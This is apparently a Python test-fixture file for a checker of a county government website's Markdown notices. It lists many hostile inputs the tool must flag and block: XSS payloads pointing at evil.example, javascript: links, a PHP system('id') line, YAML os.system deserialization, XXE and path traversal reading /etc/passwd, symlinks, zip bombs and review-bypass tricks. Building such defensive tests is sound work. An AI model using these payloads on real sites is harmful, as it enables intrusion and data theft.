"""One small site for each attack of the threat model, with what an honest tool must do. Data only.

`must`: names of findings of which at least one must be reported (and block); empty: clean, and nothing active in the output.
"""


from __future__ import annotations

import io
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from tests.helpers import NOTICE, example_site

__all__ = ["CASES", "Case"]


@dataclass(frozen=True)
class Case:
    """Files of the site, and what must happen."""

    name: str
    files: dict[str, bytes]
    must: frozenset[str]
    prepare: Callable[[Path], None] | None = field(default=None, compare=False)
    """What no table of files can hold: links, pipes."""


def _case(name: str, site: dict[str, str], must: str, **raw: bytes) -> Case:
    return Case(name, {path: text.encode("utf-8", "surrogatepass") for path, text in site.items()} | raw, frozenset(must.split()))


def body(group: str, must: str, *bodies: str) -> Iterator[Case]:
    """Bodies of the perfect notice."""
    for number, text in enumerate(bodies, 1):
        yield _case(f"{group}-{number:02d}", example_site("x\n") | {NOTICE: _with_body(text)}, must)


def _with_body(text: str) -> str:
    head = example_site("X\n")[NOTICE].rpartition("X\n")[0]
    return head + text + "\n"


def front(group: str, must: str, *keys: str) -> Iterator[Case]:
    """Front matter put before that of the perfect notice's own keys, replacing equal ones."""
    for number, text in enumerate(keys, 1):
        yield _case(f"{group}-{number:02d}", example_site(f"---\n{text}\n---\n"), must)


def head(group: str, must: str, *lines: str) -> Iterator[Case]:
    """Lines added to the perfect notice's front matter as they are, for what no merge could keep."""
    for number, text in enumerate(lines, 1):
        notice = example_site("正文。\n")[NOTICE].replace("---\n", "---\n" + text + "\n", 1)
        yield _case(f"{group}-{number:02d}", example_site("x\n") | {NOTICE: notice}, must)


def data(group: str, must: str, *files: bytes) -> Iterator[Case]:
    """Whole files in place of the perfect notice."""
    for number, content in enumerate(files, 1):
        yield _case(f"{group}-{number:02d}", example_site("x\n"), must, **{NOTICE: content})


def named(group: str, must: str, *paths: str) -> Iterator[Case]:
    """The perfect notice under another name, with its own id."""
    for number, path in enumerate(paths, 1):
        site = example_site("正文。\n")
        site[path] = site[NOTICE].replace("id: a\n", f"id: copy{number}\n")
        yield _case(f"{group}-{number:02d}", site, must)


def attached(group: str, must: str, *files: tuple[str, bytes]) -> Iterator[Case]:
    """A file offered under the perfect notice."""
    for number, (path, content) in enumerate(files, 1):
        site = example_site(f"---\nattachments:\n  - {{path: {path}, title: 任务分解表}}\n---\n正文。\n")
        yield _case(f"{group}-{number:02d}", site, must, **{f"content/zwgk/tzgg/{path}": content})


def placed(name: str, must: str, prepare: Callable[[Path], None]) -> Iterator[Case]:
    """Something that is no file, put under `content/`."""
    case = _case(name, example_site("正文。\n"), must)
    yield Case(case.name, case.files, case.must, prepare)


def _notice(text: str = "正文。\n") -> bytes:
    return _with_body(text).encode()


def _packed(entries: dict[str, str]) -> bytes:
    """A zip file, as docx and xlsx are."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return made.getvalue()


def _png(width: int, height: int) -> bytes:
    """A picture that says how large it is, and holds next to nothing."""
    parts = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)), (b"IDAT", zlib.compress(b"")), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts)


def _socket(root: Path) -> None:
    """A socket; its name must be short, so it is bound from its folder."""
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(os.path.relpath(root / "content/zwgk/tzgg/s.md"))


LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"
"""What lies in a repository in place of a large file."""
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
ZWSP, RLO, NBSP = "\u200b", "\u202e", "\u00a0"
HTML = "html.raw html.script html.style html.comment html.iframe html.form html.handler html.svg html.meta html.hidden html.hidden-style html.directive html.unsafe html.event-handler html.base html.meta-refresh html.hidden-link"
LINKS = "html.bad-scheme"
HIDDEN = "link.text link.hidden link.empty link.no-text link.invisible link.empty-text html.hidden html.empty-link"
YAML = "fm.syntax"

CASES: tuple[Case, ...] = (
    # Markup: raw HTML in every dress is refused, never shown, never run.
    *body("xss-html", HTML + " md.too-deep",
          "<script>alert(1)</script>", "文字<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
          "<iframe src=https://evil.example></iframe>", "<object data=x></object>", "<embed src=x>", "<form action=https://evil.example><input></form>",
          "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example>",
          "<a href=\"javascript:alert(1)\">x</a>", "<div style=\"display:none\"><a href=https://evil.example>博彩</a></div>", "<details open ontoggle=alert(1)>",
          "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<!-- 内部备注：暂不公开 -->", "<!--#include file=\"/etc/passwd\"-->",
          "<?php system('id'); ?>", "<![CDATA[x]]>", "<!DOCTYPE html>", "<template><script>1</script></template>", "<noscript><p title=\"</noscript><img src=x>\">",
          "<marquee>x</marquee>", "<button formaction=javascript:alert(1)>x</button>", "<x onclick=alert(1)>y</x>", "<textarea></textarea><script>1</script>"),
    *body("xss-scheme", LINKS,
          "[点此](javascript:alert(1))", "[点此](JaVaScRiPt:alert(1))", "[点此](java\tscript:alert(1))".replace("\t", "&#9;"), "[点此](&#106;avascript:alert(1))", "[点此](vbscript:x)",
          "[点此](data:text/html;base64,PHNjcmlwdD4=)", "[点此](file:///etc/passwd)", "[点此](livescript:x)", "![图](javascript:alert(1))", "[点此][x]\n\n[x]: javascript:alert(1)",
          "[点此](blob:https://x/y)", "[点此](ftp://evil.example/)", "[点此](ms-word:ofe|u|https://evil.example)", "[点此](<javascript:alert(1)>)", "[点此](\\\\\\\\server\\\\share)"),
    *body("xss-remote-image", "image.foreign html.bad-scheme",
          "![图](https://evil.example/1.png)", "![图](//evil.example/1.png)", "![图](http://192.0.2.1/t.gif)", "![](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"),
    *body("xss-hidden-link", HIDDEN + " ",
          "正文[](https://evil.example/)。", f"正文[{ZWSP}](https://evil.example/)。", "正文[ ](https://evil.example/)。", f"正文[{NBSP}](https://evil.example/)。", "正文[。](https://evil.example/)。",
          "正文[&#8203;](https://evil.example/)。"),
    *body("xss-mismatch", "link.host-mismatch", "[https://www.gov.example/](https://evil.example/)", "[www.chengxi.example](https://evil.example/)", "[国务院](https://www.gov.example@evil.example/)",
          "<https://www.gov.example@evil.example/>", "[国务院](https://www.gov.example:443@a@evil.example/)", "[内网](https://admin:secret@www.chengxi.example/)"),
    *body("xss-bidi", "text.bidi", f"请点击{RLO}moc.live{RLO}", "通知\u2066正文\u2069"),
    *body("xss-invisible", "", f"通知{ZWSP}正文", "通\u00ad知"),  # a warning: pasted texts are full of them
    # Front matter into other languages: nothing of it is code anywhere.
    *front("xss-front", "", "title: \"关于<script>alert(1)</script>的通知\"", "title: \"关于\\\" onload=\\\"alert(1)的通知\"", "title: 关于</title><img src=x onerror=1>的通知",
           "title: \"关于]]><script>的通知\"", "title: \"关于{{ 7*7 }}{% raw %}的通知\"", "summary: \"</description><script>x</script>\"", "source: \"县政府办公室<b>\"", "keywords: [\"</script><script>x\"]"),
    *front("xss-front-control", "fm.syntax fm.encoding fm.type text.bidi", "title: \"关于\\u0000的通知\"", "title: \"关于\\u0007的通知\"", "title: \"关于\\e[31m的通知\"", "title: \"关于\\uD800的通知\"",
           "title: \"关于\\u202E的通知\"", "title: \"关于\\uFFFE的通知\"", "title: \"关于\\r\\nSet-Cookie: a=b的通知\"", "title: \"关于\\n的通知\"", "title: |\n  关于\n  的通知",
           "summary: \"甲\\r乙\"", "keywords: [\"甲\\n乙\"]"),
    *front("xss-source-url", "html.bad-scheme fm.type", "reprint: true\nsource_url: javascript:alert(1)\nsource_title: 甲\nsource_date: 2026-03-01"),
    # Front matter as YAML: plain maps, lists and scalars, nothing else.
    *head("yaml", "fm.syntax fm.type fm.unknown-key fm.too-large", "x-a: &a 1\nx-b: *a", "x-a: !!python/object/apply:os.system [id]", "x-a: !!binary aGk=", "x-b: {<<: {y: 1}}", "%YAML 1.1", "title: 第二个标题",
          "\tx-a: 1", "x-a:\t1\n\tb: 2", "x-a： 全角冒号", "x-a: [" + "[" * 500, "x-a: {" * 200, "x-a: \"没有结束", "x-a: [1, 2", "- 列表", "tilte: 拼错的键", "withdrawal: []", "? x\n: y\n? [z]", "x-a: ]",
          "x-a: @x", "x-a: `x`", "x-a: {a: 1, a: 2}"),
    *head("yaml-bomb", "fm.syntax fm.too-large", "x-a: &a [1,1]\nx-b: &b [*a,*a]\nx-c: &c [*b,*b]", "x-a: " + "[" * 20_000, "x-a: " + "é" * 70_000, "x-a:\n" + "".join(f"  - {n}\n" for n in range(300)),
          "".join(f"x-k{n}: 1\n" for n in range(300)).rstrip(), "x-a: " + "{b: " * 12 + "1" + "}" * 12),
    *front("yaml-type", "fm.type fm.bad-date fm.missing-field review.bad-date", "title: [甲]", "title: {a: b}", "reviewers: 李华", "reviewers: {level: first}", "attachments: a.csv", "draft: maybe", "aliases: {a: b}", "date: [2026]",
           "title:"),
    *data("yaml-none", "fm.syntax fm.encoding fm.missing-field", b"", b"\n", "只有正文\n".encode(), b"---\n", b"---\n---\n", b"---\ntitle: x\n", b"+++\ntitle = 1\n+++\n", b"{\"title\": 1}\n", b"---json\n{}\n---\n", b"---\ntitle: x\n...\n"),
    # Paths and names.
    *front("path-slug", "fm.bad-address fm.duplicate-slug fm.syntax", "slug: ../../etc/passwd", "slug: ..", "slug: a/b", "slug: /a", "slug: a\\b", "slug: con", "slug: .htaccess",
           "slug: \"a\\0b\"", "slug: \"a \"", "slug: a.", "slug: " + "a" * 300, "slug: page-2", "slug: feed.xml", "slug: index.html", "slug: \"a?b\"", "slug: \"a#b\"", "slug: \"a%2fb\"", "slug: <b>", "slug: z"),
    *front("path-column", "fm.unknown-column fm.type", "column: ../..", "column: nowhere", "column: /zwgk/tzgg", "column: zwgk/TZGG"),
    *front("path-alias", "fm.bad-address fm.duplicate-slug", "aliases: [/]", "aliases: [/zwgk/]", "aliases: [/zwgk/tzgg/]", "aliases: [/../x/]", "aliases: [\"//evil.example/\"]", "aliases: [\"https://evil.example/\"]",
           "aliases: [/feed.xml]", "aliases: [/freshness/]", "aliases: [/manifest/]", "aliases: [/assets/x/]", "aliases: [/zwgk/tzgg/z/]", "aliases: [\"/a\\\\b/\"]", "aliases: [/.well-known/x/]", "aliases: [/index.html]", "aliases: [/404.html]",
           "aliases: [/a/con/]", "aliases: [\"/a?b/\"]", "aliases: [javascript:x]"),
    *front("path-image", "image.missing", "image: ../../../etc/passwd", "image: /etc/passwd", "image: nothing.png"),
    *front("path-attachment", "attachment.missing fm.missing-field", "attachments: [{path: ../../../../etc/passwd}]", "attachments: [{path: /etc/passwd}]", "attachments: [{path: \"..\\\\x.csv\"}]", "attachments: [{path: .git/config}]",
           "attachments: [{path: \"\"}]", "attachments: [{path: nothing.csv}]"),
    *named("path-name", "fm.special-file fm.bad-address fm.duplicate-slug fm.unknown-column", "content/zwgk/tzgg/con.md", "content/zwgk/tzgg/a\\b.md", "content/zwgk/tzgg/a\nb.md", "content/zwgk/tzgg/feed.xml.md",
           "content/zwgk/tzgg/page-3.md", "content/zwgk/tzgg/A.md", "content/root.md", "content/other/x.md", "content/zwgk/tzgg/" + "长" * 80 + ".md", "content/zwgk/tzgg/a?b.md", "content/zwgk/tzgg/a#b.md", "content/zwgk/tzgg/a%20b.md",
           "content/zwgk/tzgg/a:b.md", "content/zwgk/tzgg/a .md", "content/zwgk/tzgg/\u202egnp.md"),
    *placed("path-symlink", "fm.special-file", lambda root: (root / "content/zwgk/tzgg/l.md").symlink_to("/etc/passwd")),
    *placed("path-symlink-folder", "fm.special-file", lambda root: (root / "content/zwgk/tzgg/l").symlink_to("/etc")),
    *placed("path-symlink-loop", "fm.special-file", lambda root: (root / "content/zwgk/tzgg/l.md").symlink_to("l.md")),
    *placed("path-pipe", "fm.special-file", lambda root: os.mkfifo(root / "content/zwgk/tzgg/p.md")),
    *placed("path-pipe-attachment", "fm.special-file", lambda root: os.mkfifo(root / "content/zwgk/tzgg/p.pdf")),
    # Encodings.
    *data("enc", "fm.encoding", _notice("正文").decode().encode("gb18030"), _notice().decode().encode("utf-16"), _notice().decode().encode("utf-16-le"), _notice().decode().encode("utf-16-be"), _notice() + b"\xff", _notice() + b"\xc0\xaf",
          _notice() + b"\xed\xa0\x80", _notice() + b"\xf5\x80\x80\x80", _notice() + b"\x00", _notice() + b"\x1b[2J", _notice() + b"\xc2\x85", _notice() + "\ufffe".encode(), _notice().decode().encode("utf-32"), _notice() + b"\x7f", b"\x89PNG\r\n\x1a\n"),
    # Size and nesting.
    *data("big", "fm.too-large md.too-deep", _notice("字" * 700_001), _notice("字" * 20_001), _notice("| a | b |\n| - | - |\n" + "| 甲甲甲甲 | 乙乙乙乙 |\n" * 8_000), _notice("> " * 60 + "字"), _notice("- " * 60 + "字"),
          _notice("> " * 200 + "字")),
    *data("big-hostile", "", _notice("[" * 5_000 + "字"), _notice("![" * 3_000 + "字"), _notice("*字" * 3_000), _notice("`" * 5_000 + "字"), _notice("<" * 5_000 + "字"), _notice("\\" * 9_000 + "字"), _notice("&" * 9_000 + "字"), _notice("（" * 9_000 + "字"),
          _notice("“" * 9_000 + "字"), _notice("\n" * 50_000 + "字"), _notice("# 字\n\n" * 2_000)),
    # Attachments.
    *attached("att", "attachment.type attachment.magic attachment.missing", ("x.svg", b"<svg onload=alert(1)>"), ("x.svg", b"<svg><script>1</script></svg>"), ("x.svg", b"<svg><a href='javascript:1'/></svg>"), ("x.svg", b"<svg><image href='https://evil.example/t.png'/></svg>"), ("x.svg", b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>"), ("x.svg", b"<svg><foreignObject><p/></foreignObject></svg>"), ("x.php", b"<?php"), ("x.html", b"<script>1</script>"), ("x.exe", b"MZ"),
              ("x.js", b"alert(1)"), ("x.pdf", b"<html><script>1</script>"), ("x.png", b"<?php"), ("x.docx", b"MZ"), ("x.jpg", b"GIF89a"), ("x.sh", b"#!/bin/sh"), ("x.sql", b"drop"), ("x.bak", b"x"), (".env", b"KEY=1"), ("x.csv~", b"x"), ("x.swp", b"x"), ("x", b"x"),
              ("x.pdf.exe", b"MZ"), ("x.zip", b"MZ"), ("x.xml", b"<?xml version='1.0'?><x/>"), ("x.htm", b"<p>")),
    # What made a regular expression of ours take hours, each once: names of digits, drawings, half front matter, half tables.
    *front("slow-name", "attachment.missing", "attachments:\n  - {path: z.csv, title: 图片" + "0" * 60 + "甲}", "attachments:\n  - {path: z.csv, title: " + "文件" * 60 + "甲}", "attachments:\n  - {path: z.csv, title: 表格" + " 1" * 60 + "甲}"),
    *attached("slow-svg", "", ("x.svg", b"<svg href=" + b" " * 200_000 + b"#a></svg>")),
    *attached("slow-svg-active", "attachment.type", ("x.svg", b"<!doctype" * 50_000), ("x.svg", b"<svg>" + b" onload " * 50_000 + b"=")),
    *data("slow-line", "", _notice("| 甲 | 乙 |\n" + " " * 19_000 + "甲"), _notice("| 甲 | 乙 |\n" + "-" * 19_000 + "甲"), _notice("…" * 19_000)),
    *data("slow-tag", "", _notice("<" + " " * 19_000 + "script"), _notice("</" + " " * 19_000), _notice("<" + "\n" * 300 + "a")),
    *attached("svg-encoding", "attachment.type", ("x.svg", b"\xff\xfe" + "<svg onload=alert(1)>".encode("utf-16-le")), ("x.svg", b"\xfe\xff" + "<svg onload=alert(1)>".encode("utf-16-be")),
              ("x.svg", b"<?xml version='1.0' encoding='UTF-16'?><svg/>"), ("x.svg", b"<?xml version='1.0' encoding='ISO-2022-JP'?><svg/>"), ("x.svg", b"<svg>\x00</svg>")),
    # What is not what its name says, or is no file at all.
    *placed("path-socket", "fm.special-file", _socket),
    *data("lfs", "fm.syntax", LFS),
    *attached("lfs-att", "attachment.magic", ("x.pdf", LFS), ("x.png", LFS), ("x.docx", LFS), ("x.zip", LFS)),
    *attached("bomb", "attachment.too-large", ("x.docx", _packed({"word/document.xml": "甲" * 3_000_000})), ("x.xlsx", _packed({"xl/sharedStrings.xml": "<si><t>甲</t></si>" * 500_000, "xl/worksheets/sheet1.xml": ""}))),
    *attached("bomb-shut", "", ("x.docx", _packed({"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>"})), ("x.docx", _packed({"word/document.xml": "<p>" * 100_000})),
              ("x.docx", _packed({"../../../etc/x": "x", "word/document.xml": ""})), ("x.zip", _packed({"../x": "x"})), ("x.png", _png(60_000, 60_000)), ("x.png", _png(0, 0)), ("x.png", _png(2**31 - 1, 1)), ("x.gif", b"GIF89a\xff\xff\xff\xff"),
              ("x.jpg", b"\xff\xd8\xff\xe1\xff\xffExif\0\0II*\0\x08\0\0\0\xff\xff"), ("x.webp", b"RIFF\xff\xff\xff\xffWEBPVP8X"), ("x.pdf", b"%PDF-1.7\n" + b"1 0 obj\n<<" * 50_000),
              ("x.pdf", b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 1 0 R>>\nendobj\ntrailer<</Root 1 0 R>>\n")),
    *named("leftover", "", "content/zwgk/tzgg/~$b.docx", "content/zwgk/tzgg/b.md.orig", "content/zwgk/tzgg/#b.md#", "content/zwgk/tzgg/.DS_Store", "content/zwgk/tzgg/Thumbs.db", "content/zwgk/tzgg/b.sql", "content/zwgk/tzgg/._b.md"),
    *named("path-odd", "fm.bad-address fm.special-file fm.unknown-column", "content/zwgk/tzgg/e\u0301.md", "content/zwgk/tzgg/\u00e9.md", "content/zwgk/tzgg/ａ.md", "content/zwgk/tzgg/aux.md", "content/zwgk/tzgg/b\u200b.md", "content/zwgk/tzgg/" + "a/" * 40 + "b.md"),
    # Into the settings of a web server, into headers, into what a reader does not see.
    *front("server-alias", "fm.bad-address", "aliases: [\"/a;return 301 /b/\"]", "aliases: [\"/a{/\"]", "aliases: [\"/a\\\"b/\"]", "aliases: [\"/a$uri/\"]", "aliases: [\"/a\\nb/\"]", "aliases: [\"/a b/\"]", "aliases: [\"/a*b/\"]", "aliases: [\"/(a|b)/\"]", "aliases: [/%2e%2e/x/]"),
    *front("line-end", "fm.syntax", "title: \"关于\\u2028的通知\"", "title: \"关于\\u2029的通知\"", "source: \"甲\\u0085乙\""),
    *body("bidi-entity", "text.bidi", "请点击&#x202e;moc", "请点击&#8238;moc", "通知&#X2066;正文"),
    *body("link-intranet", "link.intranet", "[有关材料](http://2130706433/)", "[有关材料](http://0x7f.1/)", "[有关材料](http://[::1]/)", "[有关材料](http://localhost/)", "[有关材料](http://10.0.0.8/a)"),
    *body("link-look-alike", "link.punycode", "[有关材料](https://xn--80ak6aa92e.example/)", "[有关材料](https://сhengxi.example/)"),
    *body("xss-scheme-more", LINKS, "[有关材料](view-source:https://x)", "[有关材料](intent://x#Intent;end)", "[有关材料](about:blank)", "[有关材料](filesystem:https://x)"),
    # Time and order.
    *front("time", "fm.type fm.bad-date review.after-publish review.future review.bad-date date.impossible review.order", "date: 2026-02-30", "date: 20260309", "date: 2026/03/09", "date: 9 March", "date: 0000-00-00", "date: 2026-13-01", "date: 2026-03-09 25:00", "date: 2026-03-01",
           "reviewers:\n  - {level: first, name: 李华, at: 2026-04-06}\n  - {level: second, name: 王卫, at: 2026-04-07}\n  - {level: final, name: 赵安, at: 2026-04-08}",
           "reviewers:\n  - {level: first, name: 李华, at: 2026-03-06}\n  - {level: second, name: 王卫, at: 2026-03-05}\n  - {level: final, name: 赵安, at: 2026-03-08}"),
    # Ways around the reviews.
    *front("bypass-review", "review.missing-level review.same-person review.editor-is-reviewer review.duplicate-level review.unknown-person review.role review.unknown-level review.rank-not-rising fm.missing-field fm.type", "reviewers:",
           "reviewers: []", "reviewers:\n  - {level: final, name: 赵安, at: 2026-03-08}",
           *("reviewers:\n  - {level: first, name: %s, at: 2026-03-06}\n  - {level: second, name: %s, at: 2026-03-07}\n  - {level: final, name: %s, at: 2026-03-08}" % names for names in (
               ("李华", "李华", "赵安"), ("李华", "王卫", "王卫"), ("李 华", "王卫", "赵安"), (f"李{ZWSP}华", "王卫", "赵安"), ("张敏", "王卫", "赵安"), ("王卫", "李华", "赵安"), ("李华", "王卫", "某人"), ("ＬＩＨＵＡ", "王卫", "赵安"), ("\"\"", "王卫", "赵安"))),
           "reviewers:\n  - {level: first, name: 李华, at: 2026-03-06}\n  - {level: first, name: 李华, at: 2026-03-06}\n  - {level: second, name: 王卫, at: 2026-03-07}\n  - {level: final, name: 赵安, at: 2026-03-08}"),
    *named("bypass-suffix", "fm.special-file", "content/zwgk/tzgg/b.markdown", "content/zwgk/tzgg/b.html", "content/zwgk/tzgg/b.mdx", "content/zwgk/tzgg/b.htm", "content/zwgk/tzgg/b.txt.html"),
    *named("bypass-hidden", "", "content/zwgk/tzgg/.b.md", "content/zwgk/tzgg/b.md~", "content/zwgk/tzgg/.b.md.swp", "content/.git/b.md", "content/zwgk/tzgg/b.md.bak"),
    *front("bypass-identity", "fm.duplicate-id fm.duplicate-slug fm.type", "id: z", "slug: z", "id: [a]"),
    # Look-alikes that must pass: real texts are full of them.
    *body("ok", "", "本办法自2026年3月1日起施行，有效期5年。", "“三审三校”制度（试行）——2026年第1号", "温度低于-5℃，风速≥8m/s，降水<10mm且>5mm时启动。", "联系邮箱：office@chengxi.example，电话：0000-0000000。", "详见https://www.chengxi.example/zwgk/tzgg/。",
          "一、总体要求\n\n（一）指导思想\n\n1.基本原则\n\n（1）坚持依法行政", "| 乡镇 | 任务 |\n| --- | --- |\n| 城关镇 | 12 |", "落实**“三审”制度**要求，严格执行**《条例》**规定。", "C++、C#、A&B公司、R&D投入强度达2.5%。", "公式：a*b*c，a_b_c，1*2*3=6。", "　　各单位要高度重视。\n\n　　特此通知。",
          "脚本（script）语言、javascript 技能培训通知。", "参会人员：甲、乙（on-line=线上）。", "> 引自《政府工作报告》", "编号：ABC-2026-001；路径：C:\\\\用户\\\\文件。", "[政策文件](/zwgk/zcwj/)和[办法](../zcwj/p.md)", "---\n\n附件略。", "&lt;不是标签&gt; &amp; 5 < 6"),
    *front("ok-front", "", "title: 关于印发《澄溪县“十五五”规划（2026—2030年）》的通知", "title: '关于R&D投入<10%企业的通知'", "keywords: [on, yes, no, null, \"1.0\"]", "slug: nian-2026_tongzhi", "summary: 关于=号、+号和@号的说明", "editor: 张敏 "),
    *named("ok-name", "", "content/zwgk/tzgg/b.MD", "content/zwgk/tzgg/index.md", "content/zwgk/tzgg/关于春耕（2026年）的通知.md"),
    *front("ok-empty", "", "slug: \"\"", "id: \"\""),  # as if it were not written
    *data("ok-file", "", b"\xef\xbb\xbf" + _notice(), _notice().replace(b"\n", b"\r\n"), _notice().rstrip(b"\n"), _notice("𠮷野家 😀 鿿 ㊀")),
    *attached("ok-att", "", ("计划.csv", "乡镇,任务\n".encode()), ("a.pdf", b"%PDF-1.7\n"), ("a.png", PNG), ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 20), ("a.docx", b"PK\x03\x04" + b"\0" * 40), ("a.zip", b"PK\x03\x04" + b"\0" * 40), ("a.txt", "说明".encode()), ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0" style="on"/><use href="#a"/></svg>')),
)
